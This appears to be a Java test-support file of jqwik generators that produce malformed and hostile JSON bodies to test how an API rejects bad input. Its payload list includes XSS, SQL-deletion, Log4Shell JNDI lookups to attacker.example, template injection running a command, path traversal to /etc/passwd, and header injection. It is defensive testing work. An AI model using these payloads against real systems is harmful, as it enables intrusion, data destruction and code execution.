package cn.guanbiao.support;

import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Map;
import java.util.function.UnaryOperator;

import cn.guanbiao.support.Hostile.Defect;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Combinators;

/**
 * Generators of what is wrong with a JSON body whatever the endpoint: malformed JSON, duplicate keys, a body that
 * is not an object, nesting deeper than the parser takes, the wrong content type, a body over the size limit; and
 * hostile but well-formed text (markup, SQL, expression languages, path traversal, emoji, bidi overrides) to put
 * into the fields a case leaves valid.
 */
public final class HostileJson {

    /** The largest JSON body the public endpoints take. */
    public static final int BODY_LIMIT = 1024 * 1024;
    /** Jackson's default {@code StreamReadConstraints} nesting limit. */
    public static final int PARSER_DEPTH_LIMIT = 1000;

    /** Text that means harm somewhere else (a page, a query, a template, a log, a file system); none breaks a limit. */
    public static final List<String> MALICIOUS = List.of(
            "<script>alert('x')</script>",
            "<img src=x onerror=alert(1)>",
            "\"><svg onload=alert(1)>",
            "'; DROP TABLE application;--",
            "' OR '1'='1",
            "1; DELETE FROM mail_outbox WHERE 1=1",
            "${jndi:ldap://attacker.example/a}",
            "${7*7}",
            "#{7*7}",
            "[[${7*7}]]",
            "{{7*7}}",
            "*{T(java.lang.Runtime).getRuntime().exec('id')}",
            "../../../../etc/passwd",
            "..\\..\\..\\windows\\win.ini",
            "%00%0d%0aSet-Cookie: x=y",
            "重庆😀🏭科技有限公司",
            "重庆\u202Efdp.exe\u202C科技",
            "零\u200B宽\u200D字\u2060符",
            "Z\u0324\u0354\u0367\u0311\u0313",
            "=HYPERLINK(\"http://attacker.example\")",
            "\uFEFF重庆科技");

    private static final JsonNodeFactory NODES = JsonNodeFactory.instance;

    private HostileJson() {
    }

    public static Arbitrary<String> malicious() {
        return Arbitraries.of(MALICIOUS);
    }

    /** Text that is not JSON, or not only JSON: the answer names the body. */
    public static Arbitrary<Defect> malformed() {
        return Arbitraries.oneOf(
                Arbitraries.integers().between(0, 99).map(percent -> Defect.text(
                        "JSON truncated at " + percent + "%", "body", 400, Hostile.JSON,
                        json -> json.substring(0, json.length() * percent / 100))),
                Arbitraries.of("}", "]", "x", ",", "{}", " {\"a\":1}", "\"", "//", "null").map(tail -> Defect.text(
                        "trailing '" + tail + "' after the object", "body", 400, Hostile.JSON, json -> json + tail)),
                Arbitraries.just(Defect.text("single quotes instead of double quotes", "body", 400, Hostile.JSON,
                        json -> json.replace('"', '\''))),
                Arbitraries.just(Defect.text("a comment in the object", "body", 400, Hostile.JSON,
                        json -> "{/* note */" + json.substring(1))),
                Arbitraries.just(Defect.text("unquoted first key", "body", 400, Hostile.JSON,
                        json -> json.replaceFirst("^\\{\"([^\"]+)\":", "{$1:"))),
                Arbitraries.just(Defect.text("trailing comma", "body", 400, Hostile.JSON,
                        json -> json.substring(0, json.length() - 1) + ",}")),
                Arbitraries.of("", " ", "\n\t ").map(blank -> Defect.text(
                        "empty body '" + blank.replace("\n", "\\n").replace("\t", "\\t") + "'", "body", 400, Hostile.JSON,
                        json -> blank)),
                Arbitraries.integers().between(0, 0x1F).map(control -> Defect.text(
                        "unescaped control character U+%04X in a string".formatted(control), "body", 400, Hostile.JSON,
                        json -> json.replaceFirst("\":\"", "\":\"" + (char) control.intValue()))),
                Arbitraries.of(new byte[] {(byte) 0xC3, 0x28}, new byte[] {(byte) 0xFF}, new byte[] {(byte) 0xED, (byte) 0xA0, (byte) 0x80},
                                new byte[] {(byte) 0xF8, (byte) 0x88, (byte) 0x80, (byte) 0x80, (byte) 0x80})
                        .map(HostileJson::invalidUtf8));
    }

    /** A top-level key given twice: as in the valid body, and before it with the same value or another. */
    public static Arbitrary<Defect> duplicateKey(List<String> keys) {
        return Combinators.combine(Arbitraries.of(keys), Arbitraries.of(true, false)).as((key, sameValue) ->
                new Defect("key '" + key + "' given twice" + (sameValue ? " with the same value" : ""), "body", 400,
                        Hostile.JSON, json -> {
                            ObjectNode tree = Hostile.read(json);
                            JsonNode value = sameValue ? tree.get(key) : NODES.textNode("x");
                            String text = new String(json, StandardCharsets.UTF_8);
                            return ("{\"" + key + "\":" + value + "," + text.substring(1)).getBytes(StandardCharsets.UTF_8);
                        }));
    }

    /** A JSON value that is not an object, which the answer names as {@code field}. */
    public static Arbitrary<Defect> notAnObject(String field) {
        return Arbitraries.of("[]", "[{}]", "\"申请\"", "42", "-1.5e3", "true", "null")
                .map(body -> Defect.text("body is " + body + ", not an object", field, 400, Hostile.JSON, json -> body));
    }

    /** The body sent as something else than JSON; the endpoint only takes application/json (no field to name). */
    public static Arbitrary<Defect> wrongContentType() {
        return Arbitraries.of("text/plain", "text/plain;charset=UTF-8", "text/html", "application/xml", "text/xml",
                        "application/x-www-form-urlencoded", "multipart/form-data; boundary=hostile",
                        "application/octet-stream", "image/png", "application/javascript", "none")
                .map(type -> new Defect("sent as " + type, null, 415, "none".equals(type) ? null : type,
                        UnaryOperator.identity()));
    }

    /** A body over {@link #BODY_LIMIT}, the excess in a property the endpoint does not even read. */
    public static Arbitrary<Defect> overLimit() {
        return Arbitraries.integers().between(1, 512 * 1024).map(excess -> Defect.change(
                        "body of 1 MiB + " + excess + " bytes", "body", tree -> {
                            int length = Hostile.write(tree).length;
                            tree.put("padding", "a".repeat(Math.max(0, BODY_LIMIT - length + excess - 13)));
                        }))
                .map(defect -> defect.answeredWith(413));
    }

    /** Arrays nested beyond what the parser takes, in a property the endpoint does not read. */
    public static Arbitrary<Defect> nestedBeyondTheParserLimit() {
        return Arbitraries.integers().between(PARSER_DEPTH_LIMIT + 10, 20 * PARSER_DEPTH_LIMIT).map(depth -> Defect.text(
                "arrays nested " + depth + " deep", "body", 400, Hostile.JSON,
                json -> "{\"nested\":" + "[".repeat(depth) + "]".repeat(depth) + "," + json.substring(1)));
    }

    /** A value nested {@code depth} levels (arrays and objects alternating), within the parser's limit. */
    public static JsonNode nested(int depth) {
        JsonNode value = NODES.textNode("深");
        for (int i = 0; i < depth; i++) {
            value = i % 2 == 0 ? NODES.arrayNode().add(value) : NODES.objectNode().set("v", value);
        }
        return value;
    }

    /** A JSON value of another type than {@code type}: one of string, number, boolean, array, object. */
    public static Arbitrary<JsonNode> notOfType(String type) {
        Map<String, Arbitrary<JsonNode>> byType = Map.of(
                "string", Arbitraries.of("25000", "true", "2026-03-01", "[]", "NaN", "Infinity").map(t -> (JsonNode) NODES.textNode(t)),
                "number", Arbitraries.<JsonNode>of(NODES.numberNode(0), NODES.numberNode(-1), NODES.numberNode(20260301),
                        NODES.numberNode(Long.MAX_VALUE), NODES.numberNode(2.5)),
                "boolean", Arbitraries.<JsonNode>of(NODES.booleanNode(true), NODES.booleanNode(false)),
                "array", Arbitraries.<JsonNode>of(NODES.arrayNode(), NODES.arrayNode().add("ENTERPRISE"),
                        NODES.arrayNode().add(25000)),
                "object", Arbitraries.<JsonNode>of(NODES.objectNode(), NODES.objectNode().put("value", "x"),
                        NODES.objectNode().put("$gt", "")));
        return Arbitraries.oneOf(byType.entrySet().stream().filter(e -> !e.getKey().equals(type))
                .map(Map.Entry::getValue).toList()).map(JsonNode::deepCopy);
    }

    /** The node at a path like {@code certificationFees[0].amount}, or null. */
    public static JsonNode get(ObjectNode tree, String path) {
        JsonNode node = tree;
        for (String segment : path.split("\\.")) {
            node = node == null ? null : step(node, segment);
        }
        return node;
    }

    /** Sets the node at a path; its parent must exist. */
    public static void set(ObjectNode tree, String path, JsonNode value) {
        String segment = lastSegment(path);
        JsonNode parent = parentOf(tree, path);
        int bracket = segment.indexOf('[');
        if (bracket < 0) {
            ((ObjectNode) parent).set(segment, value);
        } else {
            ((ArrayNode) parent.get(segment.substring(0, bracket))).set(index(segment), value);
        }
    }

    /** Removes the node at a path (an array element or an object's property). */
    public static void remove(ObjectNode tree, String path) {
        String segment = lastSegment(path);
        JsonNode parent = parentOf(tree, path);
        int bracket = segment.indexOf('[');
        if (bracket < 0) {
            ((ObjectNode) parent).remove(segment);
        } else {
            ((ArrayNode) parent.get(segment.substring(0, bracket))).remove(index(segment));
        }
    }

    private static JsonNode parentOf(ObjectNode tree, String path) {
        int dot = path.lastIndexOf('.');
        return dot < 0 ? tree : get(tree, path.substring(0, dot));
    }

    private static String lastSegment(String path) {
        return path.substring(path.lastIndexOf('.') + 1);
    }

    private static JsonNode step(JsonNode node, String segment) {
        int bracket = segment.indexOf('[');
        return bracket < 0 ? node.get(segment) : node.path(segment.substring(0, bracket)).get(index(segment));
    }

    private static int index(String segment) {
        return Integer.parseInt(segment.substring(segment.indexOf('[') + 1, segment.indexOf(']')));
    }

    /** Invalid UTF-8 right after the opening quote of the first string value. */
    private static Defect invalidUtf8(byte[] bytes) {
        StringBuilder hex = new StringBuilder();
        for (byte b : bytes) {
            hex.append(String.format("%02X ", b));
        }
        return new Defect("invalid UTF-8 " + hex.toString().strip(), "body", 400, Hostile.JSON, json -> {
            String text = new String(json, StandardCharsets.UTF_8);
            int at = text.indexOf("\":\"") + 3;
            byte[] head = text.substring(0, at).getBytes(StandardCharsets.UTF_8);
            ByteArrayOutputStream out = new ByteArrayOutputStream();
            out.writeBytes(head);
            out.writeBytes(bytes);
            out.writeBytes(text.substring(at).getBytes(StandardCharsets.UTF_8));
            return out.toByteArray();
        });
    }
}
